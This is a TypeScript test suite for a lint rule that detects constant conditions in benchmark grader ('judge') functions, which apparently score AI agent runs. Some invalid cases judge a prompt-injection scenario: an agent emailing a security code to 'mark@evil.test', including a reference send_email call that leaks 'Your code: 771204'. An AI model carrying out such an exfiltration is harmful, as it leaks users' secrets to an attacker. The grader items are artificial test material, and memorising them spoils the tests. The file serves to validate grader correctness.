import rule from '../../../src/analyzer/rules/constant-condition.ts';
import { ruleTester } from '../rule-tester.ts';
import { CONSTANT_BRANCHES } from './constant-branches.ts';

// Snippets: module bodies declaring `judge`; `Judge`, the builders and the matchers are in scope.

ruleTester(rule, {
  valid: [
    {
      code: `interface Description {
  readonly properties: Record<string, { readonly type: string; readonly items?: { readonly type: string } }>;
}
const TYPES: Record<string, string> = { integer: 'int', array: 'list', dict: 'dict', string: 'str' };
function argsMatch(description: Description, args: Record<string, unknown>): boolean {
  for (const [param, value] of Object.entries(args)) {
    if (!(param in description.properties)) return false;
    const expected = TYPES[description.properties[param].type];
    const items = description.properties[param].items;
    const nested = expected === 'list' && items ? TYPES[items.type] : undefined;
    if (expected === 'list' && nested === 'dict') {
      if (!Array.isArray(value)) return false;
    } else if (expected === 'str' && typeof value !== 'string') return false;
  }
  return true;
}
const SEARCH: Description = { properties: { query: { type: 'string' }, tags: { type: 'array', items: { type: 'string' } } } };
const judge: Judge = ({ trace }) => trace.some((c) => c.tool === 'search' && argsMatch(SEARCH, c.args));`,
      name: "a comparison decided on every way a helper's parameter gives: the caller's constant, not the helper's (reading 38)",
    },
    { code: "const judge: Judge = ({ post }) => post.emails.some((e) => e.to === 'x@y.test' && e.body.includes('code'));" },
    { code: "const judge: Judge = ({ output }) => { const label = output || 'none'; return label.length > 3; };", name: 'default value, not a test' },
    { code: 'const judge: Judge = ({ post }) => post.emails.length >= 1;' },
    {
      code: `type Row = Record<string, unknown>;
function normalised(rows: readonly Row[]): Row[] {
  return rows.map((r) => Object.fromEntries(Object.entries(r).filter(([column]) => column !== 'rowid')));
}
const EXPECTED: Row[] = [{ rowid: 1, name: 'Bob' }];
const judge: Judge = ({ post }) => JSON.stringify(normalised(post.tables.contacts)) === JSON.stringify(normalised(EXPECTED));`,
      name: "a helper's destructured parameter is bound at each call, whether to the judge's own rows or the state's",
    },
    {
      code: `interface Policy {
  readonly selector?: string;
  readonly absent?: boolean;
}
function violated(policy: Policy, output: string): boolean {
  if (policy.selector) return output.includes(policy.selector);
  const matched = output.includes('error');
  return (policy.absent ?? true) ? matched : !matched;
}
const POLICY: Policy = {};
const judge: Judge = ({ output }) => violated(POLICY, output);`,
      name: "a shared helper's options the configuration leaves unset, and their default",
    },
    {
      code: `const judge: Judge = ({ post }) => {
  const row = post.tables.settings.find((r) => r.name === 'alerts');
  if (row?.enabled ?? true) return post.emails.length > 0;
  return false;
};`,
      name: 'a default after `??` is a value, not a condition',
    },
    {
      code: `const RANGES: Record<string, readonly [number, number]> = { small_files: [0, 300], medium_files: [300, 1000] };
const judge: Judge = ({ post }) => {
  for (const [dirName, [min, max]] of Object.entries(RANGES)) {
    for (const path of Object.keys(post.files).filter((p) => p.startsWith(\`/\${dirName}/\`))) {
      const size = post.files[path].length;
      if (dirName === 'small_files' && size >= 300) return false;
      else if (dirName === 'medium_files' && (size < 300 || size >= 1000)) return false;
      if (size < min || size > max) return false;
    }
  }
  return true;
};`,
      name: 'a destructured loop variable over a constant record takes each key in turn: its tests are not constant',
    },
    {
      code: `const DIRS = ['inbox', 'archive'];
const judge: Judge = ({ post }) => {
  let ok = true;
  DIRS.forEach((d) => {
    if (d === 'inbox' && !post.files['/inbox/a.txt']) ok = false;
  });
  for (const key in { inbox: 1, archive: 2 }) if (key === 'archive' && post.files['/archive/b.txt'] === undefined) ok = false;
  return ok && DIRS.every((d) => d === 'archive' || post.files[\`/\${d}/a.txt\`] !== undefined);
};`,
      name: 'a callback parameter of forEach/every over a constant list, and a for...in key, take each element in turn',
    },
    {
      code: `const EXPECTED_TEXT = 'name: Alice\\nage: 30';
function parse(text: string): Record<string, string> {
  const out: Record<string, string> = {};
  for (const line of text.split('\\n')) {
    const [k, v] = line.split(': ');
    if (k && v) out[k] = v;
  }
  return out;
}
const judge: Judge = ({ post }) => {
  const expected = parse(EXPECTED_TEXT);
  if (Object.keys(expected).length === 0) return false;
  const body = post.files['/report.html'] ?? '';
  return body.includes(\`<td>\${expected.name}</td>\`);
};`,
      name: "a guard on the judge's own bundled data (it reads no run and skips no check of it) is not reported",
    },
    {
      code: `const ANSWERS: Record<string, string> = { q1: 'Paris' };
const loadExpected = (label: string): string | undefined => ANSWERS[label];
const judge: Judge = ({ output }) => {
  const expectedAnswer = loadExpected('q1');
  if (!expectedAnswer) return false;
  return output.split(/\\s+/).includes(expectedAnswer);
};`,
      name: 'a presence guard on an expected answer the judge loads from its own table',
    },
    {
      code: `function latest(rows: readonly number[]): number | null {
  if (!rows) return null;
  return rows.length > 0 ? Math.max(...rows) : null;
}
const judge: Judge = ({ post }) => (latest([post.emails.length]) ?? 0) > 0;`,
      name: "a helper's test of its parameter, given a list literal at this call: constant at the call, not in the code",
    },
    {
      code: `function pairsOnly(rows: readonly (readonly number[])[]): boolean {
  return rows.length > 0 && rows[0].length === 2;
}
const judge: Judge = ({ post }) => pairsOnly(post.emails.map((e) => [e.subject.length, e.body.length]));`,
      name: "a helper's test of the lists it is given, built with two items at this call: constant at the call, not in the code",
    },
    {
      code: `const judge: Judge = ({ output }) => {
  const lines = output.split('\\n');
  if (output.startsWith('#')) {
    if (lines.length !== 3) return false;
  }
  return lines.length === 3 || lines.length === 1;
};`,
      name: 'a length guard inside a branch holds only on that branch: the reads after the branch are not past it',
    },
    {
      code: `const judge: Judge = ({ output }) => {
  const lines = output.split('\\n');
  if (lines.length !== 2) return false;
  lines.push('end');
  return lines.length > 2 && lines[0] === 'ok';
};`,
      name: 'a list changed in place after its length guard keeps no known size',
    },
    {
      code: `const judge: Judge = ({ output }) => {
  for (const line of output.split('\\n')) {
    if (!line.includes(':')) return false;
    const parts = line.split(';');
    if (parts.length < 2) return false;
  }
  return true;
};`,
      name: 'a text known to hold one separator, split at another: its parts are not counted',
    },
    {
      code: `const judge: Judge = ({ output }) => {
  for (const line of output.split('\\n')) {
    if (!line.includes(':')) return false;
    const parts = line.split(':');
    if (parts.length < 3) return false;
  }
  return true;
};`,
      name: 'a text holding the separator has at least two parts, not three',
    },
    {
      code: `const judge: Judge = ({ output }) => {
  let line = output.trim();
  if (!line.includes(':')) return false;
  line = output.slice(1);
  return line.split(':').length >= 2;
};`,
      name: 'a variable tested for the separator, then reassigned: what is split is not what was tested',
    },
    {
      code: `const judge: Judge = ({ output }) => {
  const line = output.trim();
  if (!line.includes(':')) console.log('no colon');
  const parts = line.split(':');
  return parts.length >= 2;
};`,
      name: 'a negated test that does not leave: the text past it may lack the separator',
    },
    {
      code: `function splitOnce(text: string, sep: string, limit = -1): string[] {
  const parts = text.split(sep);
  if (limit < 0 || parts.length <= limit + 1) return parts;
  return [...parts.slice(0, limit), parts.slice(limit).join(sep)];
}
const judge: Judge = ({ output }) => {
  for (const line of output.split('\\n')) {
    if (!line.includes('=')) return false;
    const parts = splitOnce(line, '=', 2);
    if (parts.length !== 2) return false;
  }
  return true;
};`,
      name: 'split at most twice: two or three parts, not a constant count',
    },
    {
      code: `const judge: Judge = ({ output }) => {
  const line = \`\${output.trim()}=done\`;
  const fields = line.split(':');
  return fields.length >= 2 && fields[0] !== '';
};`,
      name: 'a text built with one separator, split at another: its parts are not counted',
    },
  ],
  invalid: [
    ...CONSTANT_BRANCHES.map(({ code, name, constant }) => ({
      code,
      name: `reported here, not again by dead-alternative: ${name}`,
      errors: [{ messageId: 'constant' as const, ...constant }],
    })),
    {
      code: `const TASK = { answer: 'Room Birch', threshold: 0.9 };
function similar(a: string, b: string, threshold: number): [boolean, number] {
  const ratio = a === b ? 1 : 0;
  return [ratio >= threshold, ratio];
}
function check(task: typeof TASK, text: string): boolean {
  if (similar(task.answer, text, task.threshold)) return true;
  return false;
}
const judge: Judge = ({ output }) => check(TASK, output);`,
      name: 'a tuple a helper builds from an object argument, tested as a condition: truthy whatever the argument',
      errors: [{ messageId: 'constant', line: 7, column: 7 }],
    },
    {
      code: `const judge: Judge = ({ output }) => {
  const line = \`\${output.trim()}=done\`;
  const fields = line.split('=');
  return fields.length >= 2 && fields[0] !== '';
};`,
      name: 'a text built with the separator, split at it, has at least two parts',
      errors: [{ messageId: 'constant', line: 4, column: 10 }],
    },
    {
      code: `function splitOnce(text: string, sep: string, limit = -1): string[] {
  const parts = text.split(sep);
  if (limit < 0 || parts.length <= limit + 1) return parts;
  return [...parts.slice(0, limit), parts.slice(limit).join(sep)];
}
const judge: Judge = ({ output }) => {
  for (const line of output.split('\\n')) {
    if (!line.includes('=')) return false;
    const parts = splitOnce(line, '=', 1);
    if (parts.length !== 2) return false;
  }
  return true;
};`,
      name: 'a text holding the separator split once through a helper with branches: exactly two parts',
      errors: [{ messageId: 'constant', line: 10, column: 9 }],
    },
    {
      code: `const judge: Judge = ({ output }) => {
  for (const line of output.split('\\n')) {
    if (!line.includes(':')) return false;
    const parts = line.split(':');
    if (parts.length < 2) return false;
  }
  return true;
};`,
      name: 'a text known to hold the separator, split at it, has at least two parts',
      errors: [{ messageId: 'constant', line: 5, column: 9 }],
    },
    {
      code: `const judge: Judge = ({ output }) => {
  const answer = output.trim();
  if (answer.includes('|')) {
    const fields = answer.split('|');
    return fields.length >= 2 && fields[1].trim() === 'done';
  }
  return false;
};`,
      name: 'split in the branch where the text holds the separator',
      errors: [{ messageId: 'constant', line: 5, column: 12 }],
    },
    {
      code: `const ATTACKER = 'mark@evil.test';
const judge: Judge = ({ post }) =>
  post.emails.some((e) => e.to === ATTACKER && (e.body.includes('771204') || 'security code'));`,
      kind: 'injection',
      reference: "[call('send_email', { to: 'mark@evil.test', subject: 'fwd', body: 'Your code: 771204' })]",
      name: 'witness: the check a true alternative makes moot, its code replaced in the reference',
      errors: [
        {
          messageId: 'constant',
          line: 3,
          column: 78,
          witness: 'the reference run with send_email #0 `body` holding "771205" for "771204": a right judge does not fire, this one fires',
        },
      ],
    },
    {
      code: 'const judge: Judge = ({ output }) => output.length >= 0;',
      name: 'witness: a true verdict passes the initial state',
      errors: [
        { messageId: 'constant', line: 1, column: 38, witness: 'the initial state (nothing done, no answer): a right judge fails it, this one passes it' },
      ],
    },
    {
      code: "const judge: Judge = ({ output }) => output.includes('filed') && output.length < 0;",
      answer: 'Expense report filed.',
      name: 'witness: a false requirement fails the reference run',
      errors: [{ messageId: 'constant', line: 1, column: 66, witness: 'the reference run: a right judge passes it, this one fails it' }],
    },
    {
      code: "const judge: Judge = ({ output, post }) => output.includes('ok') && post.emails.length >= 0;",
      name: 'witness: exact reasoning',
      errors: [
        {
          messageId: 'constant',
          line: 1,
          column: 69,
          witness: 'exact reasoning: `post.emails.length >= 0` is true on every run: a length or count is never negative',
        },
      ],
    },
    {
      code: `const SERVICE = 'Spotify';
const judge: Judge = ({ trace }) =>
  executedCalls(trace).some((c) => c.tool === 'send_money' && (String(c.args.subject).includes(SERVICE) || String(c.args.subject).includes('')));`,
      name: 'every string contains the empty string',
      errors: [{ messageId: 'constant', line: 3, column: 108 }],
    },
    {
      code: 'const NONE: string[] = [];\nconst judge: Judge = ({ output }) => output.length > 0 && NONE.every((w) => output.includes(w));',
      name: 'every() on an empty list',
      errors: [{ messageId: 'constant', line: 2, column: 59 }],
    },
    {
      code: `const ATTACKER = 'mark@evil.test';
const judge: Judge = ({ post }) =>
  post.emails.some((e) => e.to === ATTACKER && (e.body.includes('123456') || 'verification code'));`,
      errors: [{ messageId: 'constant', line: 3, column: 78 }],
    },
    {
      code: 'const judge: Judge = ({ post }) => post.emails.filter((e) => e.to === e.to).length === 1;',
      errors: [{ messageId: 'constant', line: 1, column: 62 }],
    },
    {
      code: 'const judge: Judge = ({ post }) => post.emails.length >= 0;',
      errors: [{ messageId: 'constant', line: 1, column: 36 }],
    },
    {
      code: `interface Policy {
  readonly selector?: string;
}
const POLICY: Policy = {};
const judge: Judge = ({ output }) => (POLICY.selector ? output.includes(POLICY.selector) : output === 'done');`,
      name: "an option the judge's own configuration never sets, tested in the judge itself",
      errors: [{ messageId: 'constant', line: 5, column: 39 }],
    },
    {
      code: `const EXPECTED: readonly string[] = [];
const judge: Judge = ({ output }) => {
  if (EXPECTED.length > 0) return EXPECTED.every((w) => output.includes(w));
  return output.length > 0;
};`,
      name: "a test of the judge's own data that skips a check of the run is reported",
      errors: [{ messageId: 'constant', line: 3, column: 7 }],
    },
    {
      code: `const strict = false;
const judge: Judge = ({ pre, post }) => {
  if (strict && pre.emails.length !== post.emails.length) return false;
  return post.emails.length > 0;
};`,
      errors: [{ messageId: 'constant', line: 3, column: 7 }],
    },
    {
      code: `function lastLogin(rows: readonly { readonly time: number }[]): number | null {
  const times = rows.map((r) => r.time);
  const last = [times.length > 0 ? Math.max(...times) : null];
  if (!last) throw new Error('no login');
  return last[0];
}
const judge: Judge = ({ pre, post }) => (lastLogin(post.tables.logins as never) ?? 0) > (lastLogin(pre.tables.logins as never) ?? 0);`,
      name: 'a list built from the rows a callback read is truthy whatever they hold: the parameters its contents came from do not bind its truth',
      errors: [
        {
          messageId: 'constant',
          line: 4,
          column: 8,
          witness: 'exact reasoning: `last` is true on every run: `last` holds an object, array or function, always truthy',
        },
      ],
    },
    {
      code: `function first<T>(rows: readonly T[]): T | null {
  return rows.length > 0 ? rows[0] : null;
}
class Grader {
  constructor(readonly rows: readonly { readonly id: string; readonly time: number }[]) {}
  loggedInTwice(): boolean {
    const logins = first(this.rows.filter((r) => r.id.startsWith('admin')).map((r) => [r.time]));
    return logins !== null && logins.length >= 2;
  }
}
const judge: Judge = ({ post }) => new Grader(post.tables.logins as never).loggedInTwice();`,
      name: 'each element built as a list of one item has length 1, through a helper and a method on `this`, beside a null fallback',
      errors: [
        {
          messageId: 'constant',
          line: 8,
          column: 31,
          witness: 'exact reasoning: `logins.length >= 2` is false on every run: every element was built as a list of 1, so it has 1',
        },
      ],
    },
    {
      code: `const judge: Judge = ({ output }) => {
  const lines = output.split('\\n').filter((l) => l.trim() !== '');
  if (lines.length !== 3) return false;
  const body = lines.slice(0, -1);
  if (body.length !== 2) return false;
  return body.every((l) => l.includes(':'));
};`,
      name: 'past a guard that leaves unless a list has 3 elements, all but its last are 2',
      errors: [
        {
          messageId: 'constant',
          line: 5,
          column: 7,
          witness: 'exact reasoning: `body.length !== 2` is false on every run: `lines.length` is 3 past the test on line 4; sliced, 2 remain',
        },
      ],
    },
  ],
});
